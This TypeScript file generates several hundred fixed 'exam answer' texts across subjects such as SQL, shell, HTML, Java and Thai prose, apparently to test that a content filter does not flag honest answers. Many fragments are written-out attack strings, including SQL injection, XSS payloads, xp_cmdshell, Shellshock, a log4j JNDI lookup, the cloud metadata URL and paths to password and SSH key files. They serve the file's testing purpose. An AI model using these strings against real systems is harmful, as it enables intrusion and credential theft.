/** What a candidate of an honest exam writes into an essay or a chat. */
export interface ExamText {
  readonly subject: string;
  readonly text: string;
}

/** Pieces of answers to real kinds of questions, most of which look like attacks to whoever does not know that it is an exam. */
const PIECES: Readonly<Record<string, readonly string[]>> = {
  sql: [
    'SELECT name, grade FROM students WHERE grade > 3 ORDER BY name;',
    "SELECT * FROM users WHERE name = '' OR 1=1 --' AND password = ''",
    'INSERT INTO orders (id, total) VALUES (1, 20.5); DELETE FROM orders WHERE total < 0;',
    'SELECT a.id FROM a UNION ALL SELECT b.id FROM b;',
    'CREATE TABLE book (isbn CHAR(13) PRIMARY KEY, title VARCHAR(200) NOT NULL);',
    'DROP TABLE IF EXISTS loan; ALTER TABLE book ADD COLUMN year INT;',
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'library';",
    'SELECT COUNT(*), AVG(price) FROM item GROUP BY shop HAVING COUNT(*) > 5 LIMIT 10;',
    'UPDATE account SET balance = balance - 100 WHERE id = 7; COMMIT;',
    "EXEC xp_cmdshell 'dir'; WAITFOR DELAY '0:0:5' -- why a web user must not be an administrator",
  ],
  shell: [
    'cat /etc/passwd | grep root | cut -d: -f1; ls -la /var/log',
    'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
    'curl -s http://127.0.0.1:8080/health && echo $(date) >> /tmp/health.log',
    'chmod 755 script.sh; ./script.sh &; kill -9 $(pgrep node)',
    'find / -name "*.conf" -exec wc -l {} + 2>/dev/null',
    'powershell.exe -Command Get-Process | Where-Object CPU -gt 10; IF EXIST C:\\Windows\\win.ini TYPE C:\\boot.ini',
    'FOR /F "tokens=1" %G IN (names.txt) DO echo %G',
    '() { :;}; /bin/bash -c "echo vulnerable" was the famous mistake of 2014',
    'sudo rm -rf / must never be run; use rm -i; `whoami` tells who you are',
  ],
  html: [
    '<script>alert("hello");</script>',
    '<!DOCTYPE html><html><head><title>My page</title></head><body onload="start()"><h1>Hi</h1></body></html>',
    '<img src=x onerror=alert(1)> is the shortest example of cross-site scripting',
    '<a href="javascript:void(0)" onclick="go()">go</a> <iframe src="https://example.org"></iframe>',
    '<form action="/login" method="post"><input name="user" type="text"><input type="submit"></form>',
    '<svg width="10"><circle cx="5" cy="5" r="4"/></svg> <style>p { background: url(a.png); }</style>',
    'document.cookie holds the cookies; window.location = "/"; document.getElementById("a").innerHTML = x;',
    '<?xml version="1.0"?><!DOCTYPE note [<!ENTITY who "world">]><note>&who;</note>',
  ],
  php: [
    '<?php echo $_GET["name"]; system("ls"); ?> must escape with htmlspecialchars($_GET["name"])',
    '<?php $rows = array_map(fn($x) => $x * 2, [1, 2, 3]); print_r($rows); ?>',
    'include("http://example.org/x.txt?") works when allow_url_include = On; base64_decode("aGVsbG8=")',
  ],
  python: [
    'import os\nfor root, dirs, files in os.walk("../data"):\n    print(os.path.join(root, files[0]))',
    'def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint([fib(i) for i in range(10)])',
    'while True:\n    x = input("> ")\n    if x == "quit": break\n    eval(x)  # dangerous',
    'import subprocess; subprocess.run(["ls", "-l"]); __import__("os").system("id")',
    "class A:\n    def __init__(self): self.x = {'a': [1, 2], 'b': (3,)}",
  ],
  javascript: [
    'const total = items.reduce((sum, { price }) => sum + price, 0); console.log(`${total} THB`);',
    'while (true) { if (!queue.length) break; process.env.HOME; require("child_process").exec("ls"); }',
    'Object.prototype.__proto__ === null; new Function("return this")(); [].map.call(x, (y) => y)',
    'fetch("/api/v1/items?id=" + encodeURIComponent(id)).then((r) => r.json());',
  ],
  java: [
    'Runtime.getRuntime().exec("ls"); java.lang.ProcessBuilder p = new ProcessBuilder("id");',
    'public static void main(String[] args) { for (int i = 0; i < 10; i++) System.out.println(i); }',
    'log.info("${jndi:ldap://example.org/a}") was the hole in log4j; import java.io.ObjectInputStream;',
  ],
  c: [
    '#include <stdio.h>\nint main(void) { char b[8]; gets(b); printf("%s%n", b); return 0; }',
    'int *p = malloc(10 * sizeof(int)); if (!p || p[0] == NULL) exit(1); a = b<c && d>(e);',
    'std::vector<int> v{1,2,3}; std::cout << v.size() << "\\n"; template <typename T> T max(T a, T b);',
  ],
  maths: [
    'f(x) = sin(x) + cos(2x), x ∈ ]0; π[; for x < 0 and y > 0: |x| = -x; 1 or 1=1 is a tautology',
    '\\int_{0}^{\\infty} e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}; $\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$',
    'P(A|B) = P(A and B)/P(B); (a+b)*c; {x | x > 3}; a[i/2] != b[i*2]; 50% of 4294967296 is 2147483648',
    '\\begin{align} a &= b \\\\ c &\\leq d \\end{align} \\input{../chapter/one.tex}',
  ],
  regex: [
    '^(?:[a-z0-9]+\\.)*[a-z]+$ and (a+)+$ which takes for ever; /\\d{3}-\\d{4}/g; s/foo/bar/;',
    '[^<>"\'`;()&|$]{1,64} keeps out most of what is dangerous; \\bunion\\b.*\\bselect\\b finds the rest',
  ],
  paths: [
    'cd ../../etc; C:\\Windows\\System32\\drivers\\etc\\hosts; /proc/self/environ; ~/.ssh/id_rsa; .env; file:///etc/hosts',
    'http://169.254.169.254/latest/meta-data/ is where a machine in a cloud asks who it is; http://localhost/admin',
  ],
  networks: [
    'GET /index.html HTTP/1.1\r\nHost: example.org\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST / HTTP/1.1',
    'nmap -sS 10.0.0.0/24; User-Agent: sqlmap/1.5; Set-Cookie: a=b; (&(uid=*)(objectClass=person)); (|(cn=a)(cn=b)))(&',
  ],
  prose: [
    'I’d choose the left (western) path; it isn’t far -- "perhaps a mile"; then drop the table and select a seat from the row.',
    'Don’t insert into the margin; update your records and order by date. Union of Europe? All select few.',
    'ข้อสอบข้อนี้ตอบว่า (ก) เพราะ 1=1 เป็นจริงเสมอ; ถ้า "x" = \'y\' แล้วจึงหยุด -- จบคำตอบ',
    "การโจมตีแบบ SQL injection ใช้ ' OR '1'='1 ส่วน XSS ใช้ <script>alert(1)</script> ป้องกันโดยการ escape",
    'ฐานข้อมูลเลือกด้วย SELECT * FROM นักเรียน WHERE เกรด > 3; ผลลัพธ์คือ 12 แถว',
    'คำสั่ง ls -la แสดงไฟล์ที่ซ่อน เช่น .bashrc และ /etc/passwd เก็บรายชื่อผู้ใช้',
  ],
};

/** How people put such a piece into an answer. */
const AROUND: readonly ((piece: string) => string)[] = [
  (piece) => piece,
  (piece) => `My answer to question 3 is:\n\n${piece}\n\nThat's all.`,
  (piece) => `\`\`\`\n${piece}\n\`\`\``,
  (piece) => `คำตอบของข้อ 2 คือ\n${piece}\nครับ`,
  (piece) => `"${piece}" -- as we wrote it in class; I'm not sure about the end`,
  (piece) => `<p>${piece.replaceAll('<', '&lt;')}</p>`,
];

/** Every piece in every way: several hundred texts, always the same. */
export const examTexts = (): readonly ExamText[] =>
  Object.entries(PIECES).flatMap(([subject, pieces]) =>
    pieces.flatMap((piece) => AROUND.map((around) => ({ subject, text: around(piece) }))),
  );
